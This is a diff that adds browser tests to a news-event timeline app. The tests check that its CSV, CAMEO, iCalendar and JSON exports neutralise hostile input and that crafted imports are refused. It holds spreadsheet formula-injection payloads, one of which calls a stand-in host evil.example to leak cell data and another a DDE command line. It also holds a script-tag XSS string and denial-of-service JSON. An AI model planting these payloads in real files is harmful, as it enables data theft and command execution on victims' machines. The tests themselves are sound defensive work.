@@ -334,3 +334,119 @@ test('after the first visit the page works offline', async () => {
   await page.waitForSelector('ol[aria-label="Timeline"] time[datetime="2024-05-03"]');
   await context.close();
 });
+
+test('the page\'s CSV and CAMEO-table downloads hold no cell a spreadsheet would run', async () => {
+  const { context, page, errors } = await openApp(env.browser, env.srv.url);
+  await page.getByRole('button', { name: 'Clear workspace' }).click();
+  await waitCount(page, 0);
+  await page.waitForTimeout(50); // drop listeners attach after mount
+  const leads = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)'];
+  await dropFiles(page, leads.map((l, i) => ({
+    name: `formula-${i}.txt`,
+    text: `date 2024-03-06\n${l} Turkish President Recep Tayyip Erdogan spoke by phone with Russian President Vladimir Putin on Monday.\n`,
+  })));
+  await page.waitForFunction(() => document.querySelectorAll('li.article').length === 4);
+  await page.waitForFunction(() => document.querySelectorAll('li.event').length >= 1);
+  const runs = (f) => /^ *[=+\-@\t\r]/.test(f);
+  // A real CSV parser: quoted fields with commas, quotes and line breaks.
+  const parseCsv = (text) => {
+    const rows = []; let row = []; let f = ''; let q = false;
+    for (let i = 0; i < text.length; i++) {
+      const c = text[i];
+      if (q) { if (c === '"') { if (text[i + 1] === '"') { f += '"'; i++; } else q = false; } else f += c; }
+      else if (c === '"') q = true;
+      else if (c === ',') { row.push(f); f = ''; }
+      else if (c === '\n') { row.push(f); rows.push(row); row = []; f = ''; }
+      else f += c;
+    }
+    if (f || row.length) { row.push(f); rows.push(row); }
+    return rows;
+  };
+  const csv = parseCsv(await download(page, 'csv'));
+  assert.ok(csv.length >= 2, 'event rows');
+  for (const row of csv) for (const f of row) assert.ok(!runs(f), `CSV cell a spreadsheet would run: ${f}`);
+  const sentence = csv[0].indexOf('sentence');
+  assert.ok(csv.slice(1).some((r) => r[sentence].startsWith('\'=HYPERLINK(')), 'the formula\'s text is kept, quoted');
+  const tsv = (await download(page, 'cameo')).trim().split('\n').map((l) => l.split('\t'));
+  for (const row of tsv) for (const f of row) assert.ok(!runs(f), `CAMEO-table cell a spreadsheet would run: ${f}`);
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('hostile articles: exports parse back intact (ical.js, JSON), names isolated and long ones cut', async () => {
+  const { context, page, errors } = await openApp(env.browser, env.srv.url);
+  await page.getByRole('button', { name: 'Clear workspace' }).click();
+  await waitCount(page, 0);
+  await page.waitForTimeout(50);
+  const dir = path.join(path.dirname(new URL(import.meta.url).pathname), '..', 'tests', 'hostile-exports');
+  const files = fs.readdirSync(dir).filter((f) => f.endsWith('.txt')).map((f) => ({ name: f, text: fs.readFileSync(path.join(dir, f), 'utf8') }));
+  // Long enough to break a layout; the 10,000-character one of tests/hostile-exports is
+  // too long to be read as a name at all (checked natively).
+  const long = 'Q' + 'x'.repeat(999);
+  files.push({ name: 'long-name.txt', text: `date 2024-03-06\nPresident Ilse ${long} of Arnor met King Theodric Morwen on Monday.\n` });
+  await dropFiles(page, files);
+  await page.waitForFunction((n) => document.querySelectorAll('li.article').length === n, files.length);
+  await page.waitForFunction(() => document.querySelectorAll('li.event').length >= 4);
+  const json = JSON.parse(await download(page, 'json'));
+  const all = json.events.flatMap((e) => e.sources.map((s) => s.sentence)).join('\n');
+  assert.ok(all.includes('<script>alert(1)</script>'), 'markup kept as text');
+  assert.ok(all.includes('Van\u202etrow\u202c'), 'controls kept as text');
+  // No script ran and no element came from the article.
+  assert.equal(await page.locator('li.event img, li.event script').count(), 0);
+  // iCalendar: ical.js reads only our own properties, and the summaries intact.
+  const ics = await download(page, 'ics');
+  const cal = new ICAL.Component(ICAL.parse(ics));
+  const own = new Set(['uid', 'dtstamp', 'dtstart', 'dtend', 'summary', 'description', 'location', 'categories']);
+  const vevents = cal.getAllSubcomponents('vevent');
+  assert.equal(vevents.length, json.events.filter((e) => e.date).length);
+  assert.deepEqual(cal.getAllSubcomponents().map((c) => c.name).filter((n) => n !== 'vevent'), []);
+  for (const v of vevents) {
+    for (const p of v.getAllProperties()) assert.ok(own.has(p.name), `property ${p.name} injected`);
+    const ev = json.events.find((e) => e.id === new ICAL.Event(v).uid.split('-')[0]);
+    assert.equal(new ICAL.Event(v).summary, ev.summary);
+  }
+  const tl = JSON.parse(await download(page, 'timelinejs'));
+  for (const e of tl.events) assert.ok(!/<(?!\/?p>)/.test(e.text.text), `markup in ${e.text.text}`);
+  // Names and evidence are isolated; a long name is cut in its chip, whole on hover.
+  assert.ok(await page.locator('li.event .chips bdi').count() > 0);
+  assert.ok(await page.locator('li.event .evidence bdi').count() > 0);
+  await page.getByRole('searchbox', { name: /Search/ }).fill('Qxxxx');
+  await page.waitForFunction(() => /match/.test(document.querySelector('#result-count').textContent));
+  const chip = page.locator('li.event .chips li', { hasText: 'Qxxx' }).first();
+  assert.ok((await chip.getAttribute('title')).includes(long), 'the whole name on hover');
+  const box = await chip.boundingBox();
+  assert.ok(box.width < 400, `the chip is cut: ${box.width}px`);
+  const pageWidth = await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth + 1);
+  assert.ok(pageWidth, 'the long name does not widen the page');
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('a crafted Dateline export is refused by name and the workspace stays as it was', async () => {
+  const { context, page, errors } = await openApp(env.browser, env.srv.url);
+  const before = await count(page);
+  const articles = await page.locator('li.article').count();
+  await page.waitForTimeout(50);
+  await dropFiles(page, [
+    { name: 'wrong-types.json', text: '{"schema": 1, "articles": [{"text": 5, "file": []}, "x", null], "events": [1], "actors": {}}' },
+    { name: 'deep.json', text: `{"schema": 1, "articles": ${'['.repeat(100000)}${']'.repeat(100000)}, "events": []}` },
+  ]);
+  const alert = page.getByRole('alert');
+  await alert.waitFor();
+  await page.waitForFunction(() => /deep\.json/.test(document.querySelector('[role=alert]').textContent) && /wrong-types\.json/.test(document.querySelector('[role=alert]').textContent));
+  assert.equal(await count(page), before, 'the events are as they were');
+  assert.equal(await page.locator('li.article').count(), articles, 'the articles are as they were');
+  // A forged export: 200,000 events with one id and offsets past the text, beside one
+  // article's text. Its events are never taken; its article is read afresh.
+  const call = 'On 3 May 2024 Finnish President Alexander Stubb met Estonian Prime Minister Kristen Michal in Helsinki.';
+  const forged = `{"schema": 1, "articles": [{"id": "a1", "file": "forged.txt", "text": "${call}"}], "actors": [], "events": [${
+    Array.from({ length: 200000 }, () => '{"id":"e1","sources":[{"article":"a1","start":999999,"end":1}]}').join(',')}]}`;
+  await dropFiles(page, [{ name: 'forged.json', text: forged }]);
+  await page.waitForFunction((n) => document.querySelectorAll('li.article').length === n, articles + 1);
+  await page.waitForFunction((n) => document.querySelectorAll('li.event').length > n, before);
+  const after = await count(page);
+  assert.ok(after > before && after < before + 5, `the forged events are not taken: ${before} → ${after}`);
+  assert.ok(await page.getByText('Stubb', { exact: false }).count() > 0, 'the article is analysed afresh');
+  assert.deepEqual(errors, []);
+  await context.close();
+});
